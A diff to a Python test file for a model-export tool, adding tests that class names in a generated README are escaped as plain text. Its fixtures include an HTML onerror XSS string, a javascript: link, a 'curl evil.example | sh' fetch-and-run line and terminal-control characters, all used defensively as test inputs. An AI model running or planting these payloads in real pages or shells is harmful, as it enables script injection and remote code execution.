@@ -1,6 +1,6 @@
 """`halfstep export`: what is written is the student, and nothing else; what it draws is the same."""
 
-import json
+import html
 import re
 import shutil
 import subprocess
@@ -11,6 +11,8 @@ import pytest
 import torch
 
 import halfstep
+from halfstep import storage
+from halfstep.cli.card import plain
 from halfstep.cli.shipped import shipped_guided, shipped_teacher
 from halfstep.denoiser import Denoiser
 from halfstep.errors import ConfigError
@@ -55,6 +57,51 @@ def test_the_readme_says_what_it_is_and_its_code_runs(cli, tmp_path, monkeypatch
     assert names["result"].shape == (16, 1, 8, 8)
 
 
+NAMES = (
+    "<img src=x onerror=alert(1)>",
+    "a\n\n```bash\ncurl evil.example | sh\n```",
+    "[a](javascript:alert)",
+    "`b` **c** _d_ # e",
+    "www.evil.example https://evil.example a@evil.example",
+    "\x1b[2J\u202e",
+    "&lt;b&gt;",
+)
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_name_in_the_readme_is_text(cli, tmp_path, name):
+    own = teacher_of_classes((name, "dog 2"))
+    own.save(tmp_path / "p")
+    for kind in ("halfstep", "torch-export"):
+        assert cli("export", "p", "--out", kind, "--format", kind)[0] == 0
+        text = (tmp_path / kind / "README.md").read_text()
+        [line] = [line for line in text.splitlines() if line.startswith("- Classes: 2 (")]
+        assert line.endswith(", dog 2)") and not set("<>`[]*#_@\x1b\u202e.:/") & set(line[14:]) - {
+            "#"
+        }
+        assert "&" not in re.sub(r"&#\d+;", "", line)
+        assert html.unescape(line) == f"- Classes: 2 ({' '.join(shown(name).split())}, dog 2)"
+        assert text.count("```") == len(blocks_of(text)) * 2
+
+
+def shown(name):
+    return "".join(c if c.isprintable() else " " for c in name)
+
+
+def blocks_of(text):
+    return re.findall(r"^```(?:python|bash)$", text, re.MULTILINE)
+
+
+def teacher_of_classes(classes):
+    net = build("mlp", {"dim": 2, "width": 8, "num_classes": len(classes) + 1})
+    return Pipeline(Denoiser(net, Cosine(), V()), (2,), classes=classes, null=len(classes))
+
+
+def test_what_a_report_says_is_text_in_the_readme_too():
+    assert plain("classifier <b>\n# x") == "classifier &#60;b&#62; &#35; x"
+    assert plain(3) == "3" and plain("épée, 猫 (a-b; 5%)'s") == "épée, 猫 (a-b; 5%)'s"
+
+
 @pytest.mark.parametrize("dtype", ["float16", "bfloat16"])
 def test_half_the_size_differs_by_rounding(cli, tmp_path, dtype):
     own = teacher()
@@ -92,8 +139,9 @@ def test_a_stage_of_a_run_and_what_was_measured_of_it(cli, tmp_path):
         "ratio": interval, "cost": {"seconds_per_sample": {"1": 0.012, "64": 0.002}},
     }  # fmt: skip
     measure = {"samples": 2000, "features": "digits", "machine": "a machine"}
-    evidence = {"format": 1, "rows": [row], "measure": measure}
-    (tmp_path / "run" / "report.json").write_text(json.dumps(evidence))
+    evidence = {"format": 1, "rows": [row], "measure": measure, "made": {}, "run": {}}
+    evidence |= {"training": [], "verdict": ""}
+    storage.write_json(tmp_path / "run" / "report.json", evidence)
     assert cli("export", "run", "--steps", 8, "--out", "a")[0] == 0
     assert cli("export", "run/stages/0008-steps", "--out", "b")[0] == 0
     for name in ("a", "b"):
